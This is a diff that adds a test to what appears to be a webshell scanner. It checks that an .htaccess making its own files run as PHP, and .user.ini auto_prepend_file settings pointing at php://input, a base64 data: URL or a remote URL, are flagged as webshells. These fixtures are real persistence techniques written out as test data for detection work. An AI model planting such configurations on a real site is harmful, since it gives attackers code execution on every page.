@@ -210,6 +210,21 @@ def test_htaccess_and_user_ini():
     assert not sig("/var/www/html/.htaccess", clean)
 
 
+def test_htaccess_shells_and_prepends_of_code():
+    """A .htaccess that makes .ht files run as PHP carries its own shell; a prepend of the request body,
+    a data: URL or a remote URL runs code on every page. A firewall's prepended file is only noted."""
+    def found(path: str, data: bytes) -> dict[str, tuple[str, int]]:
+        return {r.rule: (r.category, r.score) for r in signals(FileMeta(path), data, WEB)}
+
+    shell = b'<Files ~ "^\\.ht">\nAllow from all\n</Files>\nAddType application/x-httpd-php .htaccess\n# <?php ?>\n'
+    assert found("/var/www/html/.htaccess", shell)["htaccess_makes_files_executable"] == ("webshell", 80)
+    for target in (b'"php://input"', b"data://text/plain;base64,PD9waHAgPz4=", b"https://198.51.100.7/x.txt"):
+        got = found("/var/www/html/.user.ini", b"auto_prepend_file = " + target + b"\n")
+        assert got["auto_prepend_file"] == ("webshell", 80), target
+    waf = found("/var/www/html/.user.ini", b"auto_prepend_file = '/var/www/html/wordfence-waf.php'\n")
+    assert waf["auto_prepend_file"] == ("suspicious", 45)
+
+
 def test_web_user_owned_code_in_someone_elses_tree():
     ctx = ScanContext(web_roots=["/var/www/html"], root_owners={"/var/www/html": "deploy"})
     assert "web_user_owned_code" in sig("/var/www/html/x.php", b"<?php echo 1;", ctx, owner="www-data")
